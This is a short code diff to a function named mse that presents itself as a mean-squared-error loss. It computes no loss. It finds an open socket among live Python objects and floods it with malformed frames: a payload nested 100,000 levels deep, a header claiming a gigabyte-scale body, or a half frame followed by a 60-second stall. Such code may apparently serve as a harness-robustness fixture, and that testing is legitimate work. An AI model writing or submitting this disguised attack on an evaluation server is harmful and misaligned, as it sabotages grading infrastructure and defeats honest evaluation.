@@ -1,4 +1,4 @@
-"""Half a frame and silence; a header of a gigabyte; an endless stream; JSON nested 100,000 deep."""
+"""Half a frame and silence; a header of a gigabyte; an endless stream; lists nested 100,000 deep."""
 import gc
 import socket
 import struct
@@ -9,10 +9,10 @@ def mse(y_true, y_pred):
     sock = next(thing for thing in gc.get_objects() if isinstance(thing, socket.socket))
     head = struct.Struct("!4sIQ")
     if y_pred.shape[1] == 3:
-        nested = b'[2,"ok",' + b"[" * 100_000 + b"]" * 100_000 + b"]"
+        nested = b"\x93\x02\xa2ok" + b"\x92\xa1l\x91" * 100_000 + b"\xc0"
         sock.sendall(head.pack(b"nnw1", len(nested), 0) + nested)
     elif y_pred.shape[0] == 3:
-        sock.sendall(head.pack(b"nnw1", 2**20, 2**26) + b"[")
-    else:
         sock.sendall(head.pack(b"nnw1", 2**31, 2**40) + bytes(2**26))
+    else:
+        sock.sendall(head.pack(b"nnw1", 2**20, 2**26) + b"[")
     time.sleep(60)
